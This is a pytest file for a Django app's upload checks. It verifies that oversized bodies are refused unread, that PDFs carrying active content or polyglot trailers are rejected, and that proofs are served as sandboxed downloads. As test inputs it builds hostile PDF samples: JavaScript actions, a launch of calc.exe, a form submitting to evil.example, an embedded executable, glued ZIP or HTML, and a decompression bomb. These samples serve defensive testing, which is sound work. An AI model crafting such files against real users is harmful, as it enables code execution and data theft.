"""Uploads are refused early and proofs are inert: an oversized body is answered 413 from its
Content-Length without being read (no 50 MB spooled to disk first); a PDF that would run
something — JavaScript, launch or submit actions, attached files, media — or carries data after
its end (a polyglot) is refused; and every proof is served as a download with nosniff and a
sandbox policy."""

import time
import zlib
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from continuing_education import services
from continuing_education.models import CEActivity
from core.uploads import ACTIVE_CONTENT, TRAILING_DATA, UNREADABLE, pdf_problem
from tests.factories.continuing_education import PDF_BYTES, minimal_pdf

from .conftest import add_ce

pytestmark = pytest.mark.django_db

JS = b"<< /S /JavaScript /JS (app.alert('hi')) >>"


class UnreadableBody:
    """A request body that fails the test if anyone reads it."""

    def read(self, *args, **kwargs):
        raise AssertionError("the request body was read")

    readline = read


def post_declaring(client: Client, path: str, size: int):
    return client.generic(
        "POST",
        path,
        b"",
        content_type="multipart/form-data; boundary=peercert",
        CONTENT_LENGTH=str(size),
        **{"wsgi.input": UnreadableBody()},
    )


def test_a_50_mb_proof_is_refused_from_its_content_length_unread(holder, client):
    client.force_login(holder)
    response = post_declaring(client, "/ce/submit/", 50 * 1024 * 1024)
    assert response.status_code == 413
    assert "at most 5.0" in response.content.decode()
    assert not CEActivity.objects.exists()


def test_a_proof_at_the_limit_still_goes_through(holder, client, today):
    client.force_login(holder)
    # A 4.9 MB inert PDF (padded inside an object) plus the form's other fields.
    big = minimal_pdf(objects=(b"<< /Padding (" + b"x" * int(4.9 * 1024 * 1024) + b") >>",))
    response = client.post(
        "/ce/submit/",
        {
            "title": "Cultural humility",
            "provider": "NRTC",
            "provider_approval_number": "",
            "date": (today - timedelta(days=5)).isoformat(),
            "hours": "4",
            "delivery_mode": "live_in_person",
            "proof": SimpleUploadedFile("cert.pdf", big, content_type="application/pdf"),
        },
    )
    assert response.status_code == 302
    assert CEActivity.objects.count() == 1


def test_other_uploads_are_capped_before_they_are_read_too(client, holder):
    from django.conf import settings

    from tests.factories import UserFactory

    admin = UserFactory(is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = post_declaring(
        client, "/admin/documents/multiple/add/", settings.MAX_REQUEST_BODY + 1
    )
    assert response.status_code == 413
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 2_621_440
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 1_048_576


@pytest.mark.parametrize(
    ("name", "pdf", "message"),
    [
        (
            "OpenAction JavaScript",
            minimal_pdf(catalog=b"/OpenAction 4 0 R", objects=(JS,)),
            ACTIVE_CONTENT,
        ),
        (
            "document-level JavaScript",
            minimal_pdf(
                catalog=b"/Names << /JavaScript 4 0 R >>",
                objects=(b"<< /Names [(init) 5 0 R] >>", JS),
            ),
            ACTIVE_CONTENT,
        ),
        (
            "hex-escaped names",
            minimal_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
            ACTIVE_CONTENT,
        ),
        (
            "page open action launching a program",
            minimal_pdf(catalog=b"/AA << /O << /S /Launch /F (calc.exe) >> >>"),
            ACTIVE_CONTENT,
        ),
        (
            "form submitting data",
            minimal_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
            ACTIVE_CONTENT,
        ),
        (
            "attached file",
            minimal_pdf(
                catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                objects=(
                    b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
                ),
            ),
            ACTIVE_CONTENT,
        ),
        (
            "XFA form",
            minimal_pdf(
                catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                objects=(b"<< /Length 0 >>\nstream\n\nendstream",),
            ),
            ACTIVE_CONTENT,
        ),
        ("a ZIP glued after the end", PDF_BYTES + b"PK\x03\x04" + b"\0" * 40, TRAILING_DATA),
        (
            "an HTML page glued after the end",
            PDF_BYTES + b"<script>alert(1)</script>",
            TRAILING_DATA,
        ),
        (
            "not a PDF inside",
            b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n",
            UNREADABLE,
        ),
    ],
)
def test_a_pdf_that_would_run_or_hide_something_is_refused(
    holder, client, today, name, pdf, message
):
    client.force_login(holder)
    response = client.post(
        "/ce/submit/",
        {
            "title": "Cultural humility",
            "provider": "NRTC",
            "date": (today - timedelta(days=5)).isoformat(),
            "hours": "4",
            "delivery_mode": "live_in_person",
            "proof": SimpleUploadedFile("cert.pdf", pdf, content_type="application/pdf"),
        },
    )
    assert response.status_code == 200, name
    assert response.context["form"].errors["proof"] == [message], name
    assert not CEActivity.objects.exists()


@pytest.mark.parametrize(
    "pdf",
    [
        PDF_BYTES,
        minimal_pdf(catalog=b"/OpenAction [3 0 R /Fit]"),  # open at the first page
        minimal_pdf(catalog=b"/OpenAction << /S /URI /URI (https://provider.example/) >>"),
        PDF_BYTES + b"\r\n",
    ],
)
def test_an_ordinary_pdf_is_accepted(pdf):
    upload = SimpleUploadedFile("cert.pdf", pdf, content_type="application/pdf")
    assert services.check_proof(upload) == (pdf, "application/pdf")


def test_a_compressed_bomb_is_refused_without_being_expanded():
    """An object stream that inflates to 40 MB (the whole upload may be 5 MB) holding the
    catalog: refused as unreadable within the decoding limits, quickly."""
    catalog = b"<< /Type /Catalog /Pages 3 0 R >>"
    header = b"2 0 "
    inflated = header + catalog + b" " * (40 * 1024 * 1024)
    packed = zlib.compress(inflated, 9)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    pages = b"<< /Type /Pages /Kids [] /Count 0 >>"
    out, offsets = bytearray(b"%PDF-1.5\n"), {}
    for number, body in ((1, objstm), (3, pages)):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    rows = [
        b"\x00\x00\x00\x00\x00\xff\xff",
        b"\x01" + offsets[1].to_bytes(4, "big") + b"\x00\x00",
        b"\x02" + (1).to_bytes(4, "big") + b"\x00\x00",
        b"\x01" + offsets[3].to_bytes(4, "big") + b"\x00\x00",
        b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00",
    ]
    data = b"".join(rows)
    out += (
        b"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    started = time.monotonic()
    assert pdf_problem(bytes(out)) == UNREADABLE
    assert time.monotonic() - started < 5


def test_every_proof_is_served_as_a_sandboxed_download(holder, today, client):
    for content_type in ("application/pdf", "image/png"):
        activity = add_ce(holder, on=today, hours=2, status="submitted")
        activity.proof_content_type = content_type
        activity.save(update_fields=["proof_content_type"])
        client.force_login(holder)
        response = client.get(f"/ce/records/{activity.pk}/proof/")
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
        policy = response["Content-Security-Policy"]
        assert "sandbox" in policy and "default-src 'none'" in policy


def test_a_bulk_csv_larger_than_its_limit_is_refused_unread(client):
    from django.contrib.auth.models import Group

    from courses.permissions import EMPLOYERS_GROUP
    from employers.forms import MAX_CSV_BYTES
    from tests.factories import UserFactory

    employers, _ = Group.objects.get_or_create(name=EMPLOYERS_GROUP)
    client.force_login(UserFactory(groups=[employers]))
    response = post_declaring(client, "/employer/bulk/", MAX_CSV_BYTES * 4)
    assert response.status_code == 413
